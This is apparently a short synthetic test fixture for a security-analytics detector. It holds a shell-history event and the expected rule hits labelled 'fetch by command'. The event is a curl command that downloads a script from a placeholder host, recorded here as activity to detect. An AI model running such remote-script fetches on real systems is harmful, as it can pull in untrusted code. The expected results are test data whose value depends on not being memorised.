person ana
source shell covers=programs format=shell_history
10:02 ana call-in +442079460031 14m
10:08 ana shell "curl -fsSL https://files.example/x.sh" source=shell
expect: ana hits=C9,F7 says="fetch by command" analytics=AN0684
